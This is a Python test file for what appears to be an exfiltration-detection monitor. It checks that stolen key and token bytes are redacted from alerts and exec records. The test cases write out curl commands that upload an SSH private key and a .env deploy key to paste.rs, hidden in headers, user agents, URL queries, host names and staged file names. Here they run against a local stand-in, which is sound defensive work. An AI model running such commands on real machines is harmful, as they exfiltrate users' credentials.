"""Secrets an attacker puts on a command line never reach the output: a key sent base64-encoded
in a request header, or as the user agent, to a paste site. The upload alerts, and no token of
the fake key (its text, its base64, its hex) appears anywhere in the stream: not in the alert's
process.args, command_line or chain, nor in exec telemetry."""

import base64

import pytest

from harness import Scenario, get
from harness.config import HTTPS_PORT

from test_scenarios import run_attack

RESOLVE = "--resolve paste.rs:8443:127.0.0.1"
KEY = "$HOME/.ssh/id_ed25519"

CASES = [
    Scenario(
        "key-base64-in-header-to-paste", "alert",
        f'curl -sk {RESOLVE} -H "X-Trace: $(base64 -w0 {KEY})" -d ok https://paste.rs:8443/',
        technique="T1567.003", domain="paste.rs", uploads=True),
    Scenario(
        "key-in-user-agent-to-paste", "alert",
        f'curl -sk {RESOLVE} -A "$(cat {KEY})" -d ok https://paste.rs:8443/',
        technique="T1567.003", domain="paste.rs", uploads=True),
]


def key_tokens(home):
    """Every 20-byte window of the key's text, of its base64 and of its hex: a leak of any part
    of the key in any of these encodings shows as one of them."""
    data = (home.path / ".ssh/id_ed25519").read_bytes()
    encodings = [data, base64.b64encode(data), data.hex().encode()]
    tokens = set()
    for encoded in encodings:
        for line in encoded.split(b"\n"):
            if line.startswith(b"-----"):
                continue  # the PEM framing ("-----BEGIN OPENSSH PRIVATE KEY-----") is no secret
            tokens |= {line[i:i + 20] for i in range(0, max(len(line) - 20, 0) + 1)}
    return {t for t in tokens if len(t) == 20}


@pytest.mark.parametrize("case", CASES, ids=lambda s: s.name)
def test_key_on_command_line_is_redacted(case, monitor, standin, fake_home, tmp_path):
    found = run_attack(case, monitor, standin, fake_home, tmp_path)
    output = monitor.output.read_bytes()
    leaked = sorted(t.decode(errors="replace") for t in key_tokens(fake_home) if t in output)
    assert not leaked, f"{len(leaked)} key tokens in the output, e.g. {leaked[:3]}"
    # The evidence stays recognisable: the alert names curl and the header or agent flag.
    lines = [get(a, "process.command_line", "") for a in found]
    assert any("[REDACTED]" in line and "paste.rs" in line for line in lines), lines
    execs = [r for r in monitor.records()
             if get(r, "event.action") == "exec" and get(r, "process.name") == "curl"
             and "https://paste.rs:" in get(r, "process.command_line", "")]
    assert execs, "the curl exec record"
    assert all("[REDACTED]" in get(r, "process.command_line") for r in execs)


# Redaction by content: a token no pattern knows (20 characters, no known prefix, too short for
# the long-run rule) read from a sensitive file and put where no flag says secret (a URL query
# named `note`) is still redacted, because its bytes are those of a file the lineage read; and
# the upload alerts with content-match (the token is in the request line the plaintext showed).
ENV_TOKEN = "Zq7mW2xP9vK4tR8nB3yL"


def run_with_env_token(token, case, monitor, standin, fake_home, tmp_path):
    """Writes ~/app/.env holding `token` (its first value, which the case's command reads), runs
    the attack case and checks that the token is nowhere in the output; returns its alerts."""
    env = fake_home.path / "app" / ".env"
    env.parent.mkdir(parents=True, exist_ok=True)
    env.write_text(f"DEPLOY_KEY={token}\nREGION=eu-west-1\n")
    found = run_attack(case, monitor, standin, fake_home, tmp_path)
    assert token.encode() not in monitor.output.read_bytes(), "the token is in the output"
    return found


def test_token_of_a_file_read_is_redacted_wherever_it_sits(monitor, standin, fake_home, tmp_path):
    case = Scenario(
        "env-token-in-url-query-to-paste", "alert",
        f'V=$(cut -d= -f2 $HOME/app/.env | head -1); curl -sk {RESOLVE} -d ok "https://paste.rs:8443/?note=$V"',
        technique="T1567.003", domain="paste.rs", uploads=True)
    found = run_with_env_token(ENV_TOKEN, case, monitor, standin, fake_home, tmp_path)
    names = [s.get("name") for a in found for s in get(a, "exfilwatch.signals", [])]
    assert "content-match" in names, names
    execs = [r for r in monitor.records()
             if get(r, "event.action") == "exec" and get(r, "process.name") == "curl"]
    assert execs and all("[REDACTED]" in get(r, "process.command_line") for r in execs), execs


# The names a process chose are redacted by content too: the token of a file read as a host name's
# label (SNI, Host, the flow's domain, the alert's destination and reason) and in a staging
# file's name (its opens and reads, the alert's files). The site stays as evidence.
HOST_TOKEN = "q7mw2xp9vk4tr8nb3yl5"


def test_token_of_a_file_read_in_a_host_or_file_name_is_redacted(monitor, standin, fake_home, tmp_path):
    case = Scenario(
        "env-token-in-host-and-file-name-to-paste", "alert",
        'V=$(cut -d= -f2 $HOME/app/.env | head -1); mkdir -p $HOME/stage; cp $HOME/app/.env "$HOME/stage/$V.txt"; '
        'curl -sk --resolve "$V.paste.rs:8443:127.0.0.1" --data-binary @"$HOME/stage/$V.txt" "https://$V.paste.rs:8443/"',
        technique="T1567.003", domain=f"{HOST_TOKEN}.paste.rs", uploads=True)
    found = run_with_env_token(HOST_TOKEN, case, monitor, standin, fake_home, tmp_path)
    assert {get(a, "destination.domain") for a in found} == {"[REDACTED].paste.rs"}, found
    assert [r for r in monitor.records() if get(r, "tls.client.server_name") == "[REDACTED].paste.rs"], \
        "the ClientHello record, its name redacted"
